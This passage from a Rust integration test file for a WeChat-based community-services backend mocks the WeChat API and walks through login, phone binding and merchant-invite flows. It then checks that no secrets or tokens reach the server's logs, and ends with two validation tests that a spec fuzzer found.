        ("login-code-staff-22cd", "o-helper"),
    ] {
        Mock::given(method("GET"))
            .and(path("/sns/jscode2session"))
            .and(query_param("js_code", code))
            .respond_with(
                ResponseTemplate::new(200)
                    .set_body_json(json!({"openid": openid, "session_key": "sk-8d7e"})),
            )
            .mount(&wechat)
            .await;
    }
    // A reply that is not JSON: reqwest's decode error names the URL it fetched.
    Mock::given(method("GET"))
        .and(path("/sns/jscode2session"))
        .and(query_param("js_code", "login-code-broken-33ef"))
        .respond_with(ResponseTemplate::new(200).set_body_string("<html>gateway</html>"))
        .mount(&wechat)
        .await;
    Mock::given(method("POST"))
        .and(path("/cgi-bin/stable_token"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"access_token": WECHAT_TOKEN, "expires_in": 7200})),
        )
        .mount(&wechat)
        .await;
    Mock::given(method("POST"))
        .and(path("/wxa/business/getuserphonenumber"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "errcode": 0, "errmsg": "ok",
            "phone_info": {"phoneNumber": PHONE, "purePhoneNumber": PHONE, "countryCode": "86"}
        })))
        .mount(&wechat)
        .await;

    let database_url = linli_tests::fresh_database_url().await;
    let env: std::collections::HashMap<String, String> = [
        ("LINLI__DATABASE__URL", database_url.as_str()),
        ("LINLI__WECHAT__MODE", "live"),
        ("LINLI__WECHAT__BASE_URL", &wechat.uri()),
        ("LINLI__WECHAT__APP_ID", "wx-linli-test"),
        ("LINLI__WECHAT__APP_SECRET", APP_SECRET),
        ("LINLI__LOG__FILTER", "debug,hyper=info,h2=info,rustls=info"),
        ("LINLI__LOG__FORMAT", "json"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect();
    let server =
        linli_tests::process::spawn_server_process(linli_tests::server_binary!(), &env).await;
    let base = server.address.clone();
    let client = reqwest::Client::new();
    let post = |path: &str, token: Option<&str>, body: serde_json::Value| {
        let mut request = client.post(format!("{base}{path}")).json(&body);
        if let Some(t) = token {
            request = request.bearer_auth(t);
        }
        request.send()
    };
    let login = |code: &'static str| {
        let post = &post;
        async move {
            expect_json(
                post("/api/v1/auth/wechat-login", None, json!({"code": code}))
                    .await
                    .unwrap(),
                StatusCode::OK,
            )
            .await
        }
    };
    let owner = login("login-code-owner-91ab").await;
    let owner_token = owner["access_token"].as_str().unwrap().to_owned();
    let owner_refresh = owner["refresh_token"].as_str().unwrap().to_owned();
    let owner_id = owner["user"]["id"].as_str().unwrap().to_owned();
    expect_json(
        post(
            "/api/v1/me/phone",
            Some(&owner_token),
            json!({"code": "phone-code-44aa"}),
        )
        .await
        .unwrap(),
        StatusCode::OK,
    )
    .await;
    let broken = post(
        "/api/v1/auth/wechat-login",
        None,
        json!({"code": "login-code-broken-33ef"}),
    )
    .await
    .unwrap();
    assert_eq!(broken.status(), StatusCode::BAD_GATEWAY);
    let refreshed = expect_json(
        post(
            "/api/v1/auth/refresh",
            None,
            json!({"refresh_token": owner_refresh}),
        )
        .await
        .unwrap(),
        StatusCode::OK,
    )
    .await;
    let owner_token = refreshed["access_token"].as_str().unwrap().to_owned();
    let wrong = post(
        "/api/v1/auth/staff-login",
        None,
        json!({"username": "street", "password": "wrong-password-x9"}),
    )
    .await
    .unwrap();
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    let street = expect_json(
        post(
            "/api/v1/auth/staff-login",
            None,
            json!({"username": "street", "password": DEMO_PASSWORD}),
        )
        .await
        .unwrap(),
        StatusCode::OK,
    )
    .await;
    let street_token = street["access_token"].as_str().unwrap().to_owned();
    let tree: serde_json::Value = client
        .get(format!("{base}/api/v1/orgs"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let community = linli_tests::find_org(&tree, "新华社区").unwrap();
    let merchant = expect_json(
        post(
            "/api/v1/merchants/applications",
            Some(&owner_token),
            json!({"name": "日志小店", "category": "生活服务", "license_no": "91140200MA0LOGS", "address": "新华街9号",
                   "contact_phone": "13700001111", "community_id": community}),
        )
        .await
        .unwrap(),
        StatusCode::CREATED,
    )
    .await;
    let merchant_id = merchant["id"].as_str().unwrap();
    expect_json(
        post(
            &format!("/api/v1/staff/merchants/{merchant_id}/approve"),
            Some(&street_token),
            json!({}),
        )
        .await
        .unwrap(),
        StatusCode::OK,
    )
    .await;
    let invite = expect_json(
        post(
            &format!("/api/v1/merchants/{merchant_id}/invites"),
            Some(&owner_token),
            json!({}),
        )
        .await
        .unwrap(),
        StatusCode::CREATED,
    )
    .await;
    let invite_code = invite["code"].as_str().unwrap().to_owned();
    let helper = login("login-code-staff-22cd").await;
    let helper_token = helper["access_token"].as_str().unwrap().to_owned();
    let accepted = post(
        &format!("/api/v1/merchant-invites/{invite_code}/accept"),
        Some(&helper_token),
        json!({}),
    )
    .await
    .unwrap();
    assert!(accepted.status().is_success(), "{}", accepted.status());

    // Let the last lines reach the pipe, then scan everything the process wrote.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let lines = server.log_lines();
    assert!(lines.len() > 20, "the run was logged: {lines:?}");
    assert!(
        lines
            .iter()
            .any(|l| l.contains("request failed") && l.contains("wechat_unavailable")),
        "the WeChat failure itself is logged (without its URL's secrets): {lines:#?}"
    );
    assert!(
        lines.iter().any(|l| l.contains("request finished")
            && l.contains("/api/v1/me/phone")
            && l.contains(&format!("\"actor_id\":\"{owner_id}\""))),
        "a signed-in request's lines name its actor: {lines:#?}"
    );
    let secrets = [
        APP_SECRET,
        WECHAT_TOKEN,
        PHONE,
        "13700001111",
        "login-code-owner-91ab",
        "login-code-broken-33ef",
        "phone-code-44aa",
        // (The demo password is public and printed at start on purpose: not scanned.)
        "wrong-password-x9",
        &invite_code,
        &owner_token,
        &owner_refresh,
        refreshed["refresh_token"].as_str().unwrap(),
        &street_token,
        &helper_token,
    ];
    for line in &lines {
        for secret in secrets {
            assert!(
                !line.contains(secret),
                "a secret ({secret}) reached the log: {line}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// Found by the spec fuzzer

#[tokio::test]
async fn dashboard_series_for_a_compound_is_refused_not_a_failure() {
    let app = spawn_app().await;
    let admin = app.login_staff("admin", DEMO_PASSWORD).await.access_token;
    let compound = app.org_id("阳光小区").await;
    let response = app
        .get(
            &format!("/api/v1/staff/dashboard/series?org_id={compound}"),
            Some(&admin),
        )
        .await;
    let problem = expect_problem(
        response,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert_eq!(problem["errors"][0]["field"], "org_id");
}

/// JSON `null` for an optional body is what the spec declares (`oneOf: [null, ...]`).
#[tokio::test]
async fn an_optional_body_may_be_json_null() {
    let app = spawn_app().await;
    let alice = app.login_resident("alice").await.access_token;
    let activities = expect_json(app.get("/api/v1/activities", None).await, StatusCode::OK).await;
    let id = activities["items"][0]["id"].as_str().unwrap();
    let response = app
        .send(
            app.request(
                reqwest::Method::POST,
                &format!("/api/v1/activities/{id}/signups"),
                Some(&alice),
            )
            .header("content-type", "application/json")
            .body("null"),
        )
        .await;
    expect_json(response, StatusCode::CREATED).await;
}
